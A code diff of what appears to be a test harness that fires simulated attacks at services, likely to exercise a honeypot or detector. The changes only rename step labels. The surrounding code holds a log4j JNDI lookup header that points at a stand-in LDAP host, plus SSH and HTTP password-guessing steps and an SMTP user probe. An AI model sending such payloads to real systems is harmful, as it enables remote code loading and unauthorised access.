@@ -75,7 +75,7 @@ def _traversal(who: str, port: int, service: str) -> Step:
 
 def _jndi(who: str, port: int, service: str) -> Step:
     header = "X-Api-Version: ${jndi:ldap://203.0.113.7:1389/a}"
-    return _curl("log4j lookup in a header", who, port, service, "/", JNDI, "--header", header)
+    return _curl("log4j in a header", who, port, service, "/", JNDI, "--header", header)
 
 
 def _guess(who: str, port: int, service: str, password: str) -> Step:
@@ -101,7 +101,7 @@ def _ssh_tool(who: str, port: int) -> Step:
         'printf "SSH-2.0-Go\\r\\n" >&"$write"; eval "exec ${COPROC[1]}>&-"; exec {write}>&-; '
         'cat <&"$read" >/dev/null; wait'
     )
-    return Step("SSH brute-force tool", who, port, target, ("bash", "-c", script), SSH_TOOL)
+    return Step("SSH attack tool", who, port, target, ("bash", "-c", script), SSH_TOOL)
 
 
 def _smtp(what: str, who: str, port: int, expected: int | str, *options: str) -> Step:
@@ -115,7 +115,7 @@ def _smtp(what: str, who: str, port: int, expected: int | str, *options: str) ->
 
 def _vrfy(who: str, port: int) -> Step:
     # aiosmtpd answers 252, which curl takes for a success.
-    return _smtp("SMTP probe for users", who, port, VRFY, "--mail-rcpt", "root")
+    return _smtp("SMTP user probe", who, port, VRFY, "--mail-rcpt", "root")
 
 
 def _mail(who: str, port: int) -> Step:
@@ -130,7 +130,7 @@ STEPS: Final = (
     _jndi("scanner", 46102, "http"),
     _traversal("robot", 46301, "http6"),
     _ssh_tool("guesser", 46202),
-    _curl("TLS to the intranet's name", "scanner", 46103, "https", "/", SNI),
+    _curl("TLS, internal name", "scanner", 46103, "https", "/", SNI),
     _guess("robot", 46302, "http6", "123456"),
     _guess("robot", 46303, "http6", "password"),
     _vrfy("guesser", 46203),
